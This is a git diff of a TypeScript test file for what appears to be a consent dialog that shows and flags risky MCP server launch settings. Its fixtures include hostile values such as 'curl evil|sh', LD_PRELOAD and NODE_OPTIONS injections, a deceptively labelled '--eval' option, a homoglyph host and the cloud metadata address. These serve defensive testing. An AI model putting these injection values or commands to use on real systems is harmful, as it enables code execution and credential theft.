@@ -1,14 +1,15 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { decidesWhatRuns } from '../../../src/config/decidingVariables.ts';
+import { decidesWhatRuns, isHarmless } from '../../../src/config/decidingVariables.ts';
 import { readServers, type ServerDefinition } from '../../../src/config/definition.ts';
 
 import { effectiveParts, PARTS } from '../../../src/config/fingerprint.ts';
+import { readInputs } from '../../../src/config/inputs.ts';
 import { effectiveDefinition } from '../../../src/config/launch.ts';
 import { namesSecret } from '../../../src/config/secretNames.ts';
 import { decidingInputs, dependsOnWorkspace, type Program, type Start } from '../../../src/config/start.ts';
-import { exact, fitsDialog, startSections } from '../../../src/config/startText.ts';
-import type { VariableSource } from '../../../src/config/variables.ts';
+import { exact, startSections } from '../../../src/config/startText.ts';
+import { inputsOf, type VariableSource } from '../../../src/config/variables.ts';
 import { english, render } from '../../../src/elicitation/sentence.ts';
 import { runs } from '../../nightly.ts';
 import { tableRows } from '../../tableRows.ts';
@@ -21,6 +22,7 @@ const source: VariableSource = {
 	pathSeparator: () => '/',
 	environment: (name) => (name === 'UNSET' ? undefined : `value of ${name}`),
 	configuration: (key) => `setting ${key}`,
+	isOfWorkspace: (key) => key.startsWith('theirs'),
 	input: () => undefined,
 	shell: false,
 };
@@ -34,15 +36,17 @@ function define(value: unknown): ServerDefinition {
 
 const found: Program = { file: '/usr/bin/node', inWorkspace: false, cwd: '/work', windows: false };
 
-function startOf(value: unknown, program?: Program): Start {
+function startOf(value: unknown, program?: Program, proposed: unknown = []): Start {
 	const written = define(value);
 	const { definition: shown } = effectiveDefinition(written, source);
-	return { written, shown, ...(shown.type === 'stdio' && { program: program ?? found }) };
+	const used = inputsOf(written);
+	const inputs = readInputs(proposed).inputs.filter(({ id }) => used.includes(id));
+	return { written, shown, inputs, ...(shown.type === 'stdio' && { program: program ?? found }) };
 }
 
 /** All lines of the consent. */
-function linesOf(start: Start): string[] {
-	return startSections(start).flatMap(({ title, rows }) => [
+function linesOf(start: Start, isOwn = false): string[] {
+	return startSections(start, isOwn).flatMap(({ title, rows }) => [
 		...(title ? [render(title, english)] : []),
 		...rows.map(({ label, text, notes }) =>
 			[label ? `${render(label, english)}: ${text}` : text, ...notes.map((note) => render(note, english))].join('  ← '),
@@ -85,21 +89,31 @@ describe('a variable', () => {
 		expect(decidesWhatRuns(name.toLowerCase(), true)).toBe(true);
 	});
 
-	it.each(['REGION', 'ENVIRONMENT', 'MY_PATH', 'path', 'node_options'])('named %s does not, but on Windows', (name) => {
+	it.each<string>(rows('harmless'))('named %s is known to decide nothing', (name) => {
+		expect(decidesWhatRuns(name, true)).toBe(false);
+		expect(isHarmless(name, false)).toBe(true);
+	});
+
+	it.each<string>(rows('unknown'))('named %s is not known to decide nothing', (name) => {
 		expect(decidesWhatRuns(name, false)).toBe(false);
+		expect(isHarmless(name, false)).toBe(false);
 	});
 });
 
 describe('the consent to a start', () => {
 	it('sets apart what decides what runs, wherever it comes from, and masks none of it for its name', () => {
 		const variables = { LD_PRELOAD: './evil.so', REGION: 'eu', NODE_OPTIONS: 'shadowed' };
+		const title = 'These variables may change what is run, whatever the command is:';
 		const envFile = { file: '/project/.env', inWorkspace: true, text: 'x', variables };
-		const env = { NODE_OPTIONS: '--require ./evil.js', GIT_CONFIG_KEY_0: 'core.sshCommand', A: '1' };
-		const sections = startSections(startOf({ command: 'node', env, envFile: '.env' }, { ...found, envFile }));
-		const alarms = sections.filter(({ alarm }) => alarm).flatMap(({ rows }) => rows.map(({ text }) => text));
-		expect(alarms).toEqual([
+		const env = { NODE_OPTIONS: '--require ./evil.js', GIT_CONFIG_KEY_0: 'core.sshCommand', A: '1', CI: '1' };
+		const sections = startSections(startOf({ command: 'node', env, envFile: '.env' }, { ...found, envFile }), true);
+		const alarms = sections.filter(({ alarm }) => alarm);
+		expect(alarms.map((section) => section.title && render(section.title, english))).toEqual([title]);
+		expect(alarms.flatMap(({ rows }) => rows.map(({ text }) => text))).toEqual([
 			'NODE_OPTIONS=--require ./evil.js',
 			'GIT_CONFIG_KEY_0=core.sshCommand',
+			// Nobody knows what it decides.
+			'A=1',
 			'LD_PRELOAD=./evil.so',
 			'NODE_OPTIONS=shadowed',
 		]);
@@ -116,28 +130,109 @@ describe('the consent to a start', () => {
 		);
 	});
 
+	it.each([
+		[undefined, '${workspaceFolder}  ← all folders of the workspace'],
+		['workspace', '${workspaceFolder}  ← all folders of the workspace'],
+		['none', 'none  ← no folders'],
+		[[], 'none  ← no folders'],
+	])('shows which folders the server is told of, also where it is told of the usual ones: %j', (roots, line) => {
+		const lines = linesOf(startOf({ url: 'https://h/mcp', ...(roots && { roots }) }));
+		expect(lines.slice(lines.indexOf('Roots that it is told:') + 1)).toEqual([line]);
+	});
+
+	it('shows what is proposed for the values that are asked for', () => {
+		const inputs = [
+			{ id: 'script', type: 'promptString', default: "require('./evil')" },
+			{ id: 'level', type: 'pickString', options: ['low', { label: 'Safe', value: '--eval=evil()' }], default: 'low' },
+			{ id: 'key', type: 'promptString', password: true },
+			{ id: 'unused', type: 'promptString', default: 'x' },
+		];
+		const args = ['-e', '${input:script}', '${input:level}', '${input:key}'];
+		const lines = linesOf(startOf({ command: 'node', args }, found, inputs));
+		expect(lines.slice(lines.indexOf('Values that are proposed to you:') + 1)).toEqual([
+			"require('./evil')  ← proposed for ${input:script}",
+			'low  ← proposed for ${input:level}',
+			'low  ← a choice for ${input:level}',
+			'--eval=evil()  ← a choice for ${input:level}, shown as "Safe"',
+		]);
+	});
+
 	it('knows the variables of Windows in any case', () => {
 		const envFile = { file: 'C:\\.env', inWorkspace: false, text: 'x', variables: { node_options: '1', region: 'x' } };
 		const lines = linesOf(
 			startOf({ command: 'x', env: { Path: 'C:\\evil', Region: 'eu' } }, { ...found, envFile, windows: true }),
 		);
-		expect(lines).toContain('These variables determine what is run, regardless of the command:');
+		expect(lines).toContain('These variables may change what is run, whatever the command is:');
 		expect(lines.indexOf('Path=C:\\evil')).toBeLessThan(lines.indexOf('Environment variables:'));
 		expect(lines).toContain('node_options=1  ← from the environment file');
 		expect(lines).toContain('region=x  ← replaced by the definition');
 	});
 
-	it('names what is sent by its source, and shows no secret', () => {
-		const headers = { Authorization: 'Bearer ${input:token}', 'X-User': '${env:USER}', Cookie: 'planted' };
-		const lines = linesOf(startOf({ url: 'https://h/${env:MY_TOKEN}', headers }));
-		expect(lines).toEqual([
-			'URL: https://h/${env:MY_TOKEN}',
+	it.each([
+		['of the user is masked, where it is named like a secret', true, 'Cookie=••••••', 'SESSION_KEY=••••••'],
+		['of a workspace is shown', false, 'Cookie=planted', 'SESSION_KEY=curl evil|sh'],
+	])('names what is sent by its source: what stands in a file %s', (_what, isOwn, cookie, key) => {
+		const headers = {
+			Authorization: 'Bearer ${input:token}',
+			'X-Api-Key': '${env:GH}',
+			'X-Auth': '${config:mine}',
+			Token: '${config:theirs.token}',
+			'X-User': '${env:USER}',
+			Cookie: 'planted',
+		};
+		const url = 'https://h.example/${env:MY_TOKEN}/${config:my.token}/${config:theirs.token}';
+		const lines = linesOf(startOf({ url, headers }), isOwn);
+		expect(lines.slice(0, lines.indexOf('Roots that it is told:'))).toEqual([
+			'Host: h.example',
+			'URL: https://h.example/${env:MY_TOKEN}/${config:my.token}/setting theirs.token  ← from ${config:theirs.token}',
 			'Transport: HTTP',
 			'Headers:',
-			'Authorization=••••••  ← from ${input:token}',
+			'Authorization=Bearer ${input:token}',
+			// Secrets of the user, by what they are for.
+			'X-Api-Key=${env:GH}',
+			'X-Auth=${config:mine}',
+			'Token=setting theirs.token  ← from ${config:theirs.token}',
 			'X-User=value of USER  ← from ${env:USER}',
-			'Cookie=••••••',
+			cookie,
 		]);
+		const args = ['--token', '${env:GH}', '--auth=${config:mine}', '${config:theirs}'];
+		const program = linesOf(startOf({ command: 'bash', args, env: { SESSION_KEY: 'curl evil|sh' } }), isOwn);
+		expect(program).toContain(key);
+		expect(program.filter((line) => line.startsWith('Argument'))).toEqual([
+			'Argument 1: --token',
+			'Argument 2: ${env:GH}',
+			'Argument 3: --auth=${config:mine}',
+			'Argument 4: setting theirs  ← from ${config:theirs}',
+		]);
+	});
+
+	it.each([
+		[true, 'TOKEN=from the file'],
+		[false, 'TOKEN=••••••'],
+	])('masks secrets of an environment file, unless it is in the workspace (%s)', (inWorkspace, line) => {
+		const envFile = { file: '/.env', inWorkspace, text: 'x', variables: { TOKEN: 'from the file' } };
+		expect(linesOf(startOf({ command: 'x', envFile: '.env' }, { ...found, envFile }))).toContain(line);
+	});
+
+	it.each<[string, string, readonly string[]]>([
+		['https://mcp.linear.app/mcp', 'mcp.linear.app (linear.app)', []],
+		['https://h.example:8443/mcp', 'h.example:8443', ['The port is not the usual one: 8443.']],
+		['http://localhost:3000/mcp', 'localhost:3000', []],
+		[
+			'https://gіthub.com/${input:my token}',
+			'xn--gthub-n2e.com',
+			['The host has letters that can look like others: "xn--gthub-n2e" is written "gіthub".'],
+		],
+		['https://2130706433/mcp', '127.0.0.1', ['The host is a number in disguise: "2130706433" means 127.0.0.1.']],
+		['https://169.254.169.254/', '169.254.169.254', ['This address serves the credentials of cloud machines.']],
+	])('shows the host of %s as it is reached, and what is unusual about it first', (url, host, warnings) => {
+		const [first, ...others] = startSections(startOf({ url }), false);
+		const lines = linesOf(startOf({ url }));
+		expect(lines).toContain(`Host: ${host}`);
+		const unusual = first?.alarm ? first.rows.flatMap(({ notes }) => notes.map((note) => render(note, english))) : [];
+		expect(unusual).toEqual(expect.arrayContaining([...warnings]));
+		expect(unusual.length > 0).toBe(warnings.length > 0);
+		expect(others.some(({ alarm }) => alarm)).toBe(false);
 	});
 
 	it('shows what is run and sent again while the server is developed', () => {
@@ -150,29 +245,6 @@ describe('the consent to a start', () => {
 			'dev.watch=**  ← restarts it when such a file changes',
 			'dev.replay=true  ← repeats the last call then, with your responses',
 		]);
-	});
-
-	it.each([
-		[['short'], true],
-		[Array.from({ length: 30 }, () => 'many'), false],
-		[['word '.repeat(20)], false],
-		[['x'.repeat(300)], true],
-		[['x'.repeat(3_000)], false],
-		[['שלום'], false],
-	])('is shown in a webview if a dialog would be ambiguous: %j', (args, fits) => {
-		const start = startOf({ command: 'node', args });
-		const rows = startSections(start).flatMap((section) =>
-			section.rows.map(({ text }) => ({ label: 'Argument 1', text })),
-		);
-		expect(fitsDialog(rows, linesOf(start))).toBe(fits);
-	});
-
-	it.each([
-		['from ${config:short}', true],
-		[`from \${config:${'x'.repeat(50)} Argument 2: --safe}`, false],
-		['written as שלום', false],
-	])('is shown in a webview if a note in a dialog would be ambiguous: %s', (note, fits) => {
-		expect(fitsDialog([{ label: 'Argument 1', text: 'x', notes: [note] }], ['x'])).toBe(fits);
 	});
 });
 
@@ -205,10 +277,9 @@ describe('a definition of the user’s own', () => {
 			args: ['${input:b}'],
 			cwd: '${input:c}',
 			envFile: '${input:d}',
-			env: { PATH: '${input:e}', Path: '${input:f}', X: '${input:g}' },
+			env: { PATH: '${input:e}', Path: '${input:f}', X: '${input:g}', LOG_LEVEL: '${input:h}', TOKEN: '${input:i}' },
 		});
-		expect([...decidingInputs(definition, false)].sort()).toEqual(['a', 'c', 'd', 'e']);
-		expect([...decidingInputs(definition, true)].sort()).toEqual(['a', 'c', 'd', 'e', 'f']);
+		expect([...decidingInputs(definition, false)].sort()).toEqual(['a', 'c', 'd', 'e', 'f', 'g']);
 		const remote = define({ url: 'https://${input:host}/mcp', headers: { Authorization: '${input:token}' } });
 		expect([...decidingInputs(remote, false)]).toEqual(['host']);
 	});
@@ -267,7 +338,7 @@ const stdio = fc.record(
 );
 const http = fc.record(
 	{
-		url: hostile.map((text) => `https://h/${text}`).filter((url) => URL.canParse(url)),
+		url: hostile.map((text) => `https://h/${text}`).filter((url) => readServers({ it: { url } }).servers.length > 0),
 		type: fc.constantFrom('http', 'sse'),
 		headers: fc.dictionary(name, hostile, { maxKeys: 5, noNullPrototype: true }),
 		oauth: fc.record(
@@ -298,13 +369,13 @@ const program = fc.record({
 describe('whatever a definition says', () => {
 	it('stands in the consent: every text that is run or sent, on a line of its own', () => {
 		fc.assert(
-			fc.property(fc.oneof(stdio, http), program, (value, { variables, ...place }) => {
+			fc.property(fc.oneof(stdio, http), program, fc.boolean(), (value, { variables, ...place }, isOwn) => {
 				const envFile = { file: '/e', inWorkspace: false, text: JSON.stringify(variables), variables: variables ?? {} };
 				const start = startOf(value, { ...place, ...(variables && { envFile }) });
-				const lines = linesOf(start);
-				const texts = startSections(start).flatMap(({ rows }) => rows.map(({ text }) => text));
+				const lines = linesOf(start, isOwn);
+				const texts = startSections(start, isOwn).flatMap(({ rows }) => rows.map(({ text }) => text));
 				expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
-				for (const text of influences(start)) {
+				for (const text of influences(start, isOwn)) {
 					expect(texts, lines.join('\n')).toContain(text);
 				}
 			}),
@@ -337,6 +408,20 @@ describe('whatever a definition says', () => {
 	});
 
 	it.each([
+		['a default', [{ id: 'x', type: 'promptString', default: 'a' }], [{ id: 'x', type: 'promptString', default: 'b' }]],
+		['an option', [{ id: 'x', type: 'pickString', options: ['a'] }], [{ id: 'x', type: 'pickString', options: ['b'] }]],
+		[
+			'what an option stands for',
+			[{ id: 'x', type: 'pickString', options: [{ label: 'a', value: 'a' }] }],
+			[{ id: 'x', type: 'pickString', options: [{ label: 'a', value: 'b' }] }],
+		],
+		['a first default', [{ id: 'x', type: 'promptString' }], [{ id: 'x', type: 'promptString', default: 'b' }]],
+	])('is asked again when something else is proposed for a value: %s', (_what, before, after) => {
+		const of = (inputs: unknown) => effectiveParts(startOf({ command: 'x', args: ['${input:x}'] }, found, inputs));
+		expect(PARTS.filter((part) => of(before)[part] !== of(after)[part])).toEqual(['inputs']);
+	});
+
+	it.each([
 		['file', { file: '/other' }],
 		['cwd', { cwd: '/other' }],
 	])('is asked again when its program is found elsewhere: %s', (_what, changed) => {
@@ -346,15 +431,23 @@ describe('whatever a definition says', () => {
 });
 
 /** What has to stand in the consent: all that is spawned with, or sent; a secret by its name. */
-function influences({ shown, program: place }: Start): string[] {
-	const pair = (name: string, value: string | null) => {
-		const decides = shown.type === 'stdio' && decidesWhatRuns(name, place?.windows ?? false);
-		const masked = namesSecret(name) && !(decides && !/auth|token|passw|secret|credential/i.test(name));
-		return value === null ? exact(name) : `${exact(name)}=${masked && value !== '' ? '••••••' : exact(value)}`;
+function influences({ written, shown, program: place }: Start, isOwn: boolean): string[] {
+	const pair = (name: string, value: string | null, masked: boolean) =>
+		value === null
+			? exact(name)
+			: `${exact(name)}=${masked && value !== '' && namesSecret(name) && !decidesWhatRuns(name, true) ? '••••••' : exact(value)}`;
+	/** Those of the definition are masked where the user has written them. */
+	const pairs = (values: Readonly<Record<string, string | null>>) => {
+		const literals = written.type === 'stdio' ? written.env : written.headers;
+		return Object.entries(values).map(([name, value]) =>
+			pair(name, value, isOwn && !/\$\{[^}]+\}/.test(literals[name] ?? '')),
+		);
 	};
 	const { debug, watch = [], replay } = shown.dev ?? {};
 	const development = [
-		...(Array.isArray(shown.roots) ? shown.roots.map(exact) : []),
+		...(Array.isArray(shown.roots) && shown.roots.length > 0
+			? shown.roots.map(exact)
+			: [shown.roots === 'workspace' ? '${workspaceFolder}' : 'none']),
 		...(debug ? [`dev.debug.type=${exact(debug.type)}`] : []),
 		...(debug?.debugpyPath === undefined ? [] : [`dev.debug.debugpyPath=${exact(debug.debugpyPath)}`]),
 		...watch.map((glob) => `dev.watch=${exact(glob)}`),
@@ -366,16 +459,16 @@ function influences({ shown, program: place }: Start): string[] {
 			exact(place?.file ?? ''),
 			exact(place?.cwd ?? ''),
 			...shown.args.map(exact),
-			...Object.entries(shown.env).map(([name, value]) => pair(name, value)),
+			...pairs(shown.env),
 			...(place?.envFile ? [place.envFile.file] : []),
-			...Object.entries(place?.envFile?.variables ?? {}).map(([name, value]) => pair(name, value)),
+			...Object.entries(place?.envFile?.variables ?? {}).map(([name, value]) => pair(name, value, true)),
 		];
 	}
 	const { clientId, clientMetadataUrl, scopes, callbackPort } = shown.oauth ?? {};
 	return [
 		...development,
 		exact(shown.url),
-		...Object.entries(shown.headers).map(([name, value]) => pair(name, value)),
+		...pairs(shown.headers),
 		...(clientId === undefined ? [] : [`oauth.clientId=${exact(clientId)}`]),
 		...(clientMetadataUrl === undefined ? [] : [`oauth.clientMetadataUrl=${exact(clientMetadataUrl)}`]),
 		...(scopes ? [`oauth.scopes=${exact(scopes.join(' '))}`] : []),
